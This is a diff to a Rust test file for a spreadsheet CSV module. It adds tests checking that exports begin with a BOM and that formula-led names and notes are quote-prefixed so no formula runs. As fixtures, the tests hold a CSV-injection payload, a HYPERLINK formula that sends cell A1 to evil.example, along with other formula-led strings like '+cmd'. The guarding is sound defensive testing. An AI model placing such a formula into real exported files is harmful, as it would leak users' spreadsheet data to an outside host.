@@ -1,8 +1,9 @@
 //! Unit tests for files as spreadsheets outside the US and UK write them:
 //! semicolons and decimal commas, legacy and UTF-16 encodings, day-first
-//! dates.
+//! dates, and exports that open right (a BOM, no formula runs).
 
 use super::*;
+use proptest::prelude::*;
 
 fn rows_of(p: &Parsed) -> Vec<String> {
     p.rows
@@ -171,6 +172,48 @@ fn day_first_and_month_first_dates() {
 }
 
 #[test]
+fn hostile_names_are_exported_guarded_and_read_back_exactly() {
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "-5 churn",
+        "+cmd",
+        "@SUM(1)",
+        "'quoted",
+        "''=twice",
+        "Plain",
+    ];
+    let mut w = WideWriter::new(Vec::new(), &names).unwrap();
+    w.row("2026-W48".parse().unwrap(), &[Some(-5.0); 7])
+        .unwrap();
+    let bytes = w.finish().unwrap();
+    let text = String::from_utf8(bytes.clone()).unwrap();
+    assert!(text.starts_with("\u{feff}week,\"'=HYPERLINK("), "{text}");
+    assert!(text.contains(",'-5 churn,'+cmd,'@SUM(1),''quoted,'''=twice,Plain\n"));
+    // Values stay numbers.
+    assert!(text.ends_with("2026-W48,-5,-5,-5,-5,-5,-5,-5\n"), "{text}");
+    let p = parse(&bytes);
+    let read: Vec<&str> = p.names.iter().map(|n| n.text.as_str()).collect();
+    assert_eq!(read, names);
+
+    let mut w = LongWriter::new(Vec::new()).unwrap();
+    w.row(
+        "=1+1",
+        "2026-W48".parse().unwrap(),
+        -3.0,
+        Some("-not a formula"),
+    )
+    .unwrap();
+    let bytes = w.finish().unwrap();
+    assert_eq!(
+        bytes,
+        "\u{feff}measure,week,value,note\n'=1+1,2026-W48,-3,'-not a formula\n".as_bytes()
+    );
+    let p = parse(&bytes);
+    assert_eq!(rows_of(&p), ["=1+1 2026-W48 -3"]);
+    assert_eq!(p.rows[0].note.as_deref(), Some("-not a formula"));
+}
+
+#[test]
 fn a_file_refused_for_its_encoding_or_separator() {
     let cases: &[(&[u8], &str)] = &[
         (
@@ -188,5 +231,50 @@ fn a_file_refused_for_its_encoding_or_separator() {
     ];
     for (input, want) in cases {
         assert_eq!(problems_of(&parse(input)), [*want]);
+    }
+}
+
+fn led_text() -> impl Strategy<Value = String> {
+    // Names and notes as a person types them (trimmed), often led by what
+    // a spreadsheet would run as a formula, or by a quote.
+    (
+        prop_oneof![
+            Just(""),
+            Just("="),
+            Just("-"),
+            Just("+"),
+            Just("@"),
+            Just("'"),
+            Just("'=")
+        ],
+        "\\PC{1,12}",
+    )
+        .prop_map(|(lead, rest)| format!("{lead}{rest}").trim().to_string())
+        .prop_filter("empty", |s| !s.is_empty())
+}
+
+proptest! {
+    #[test]
+    fn both_forms_read_back_hostile_text_exactly(
+        names in proptest::collection::vec(led_text(), 1..6),
+        note in led_text(),
+    ) {
+        // Distinct (any case) names, as a team's measures are.
+        let names: Vec<String> = names.iter().enumerate().map(|(i, n)| format!("{n} {i}")).collect();
+        let refs: Vec<&str> = names.iter().map(String::as_str).collect();
+        let week: Week = "2026-W48".parse().unwrap();
+        let mut w = WideWriter::new(Vec::new(), &refs).unwrap();
+        w.row(week, &vec![Some(1.5); refs.len()]).unwrap();
+        let p = parse(&w.finish().unwrap());
+        prop_assert_eq!(&p.problems, &[]);
+        let read: Vec<&str> = p.names.iter().map(|n| n.text.as_str()).collect();
+        prop_assert_eq!(read, refs.clone());
+
+        let mut w = LongWriter::new(Vec::new()).unwrap();
+        w.row(refs[0], week, -2.0, Some(&note)).unwrap();
+        let p = parse(&w.finish().unwrap());
+        prop_assert_eq!(&p.problems, &[]);
+        prop_assert_eq!(&p.names[0].text, &names[0]);
+        prop_assert_eq!(p.rows[0].note.as_deref(), Some(note.as_str()));
     }
 }
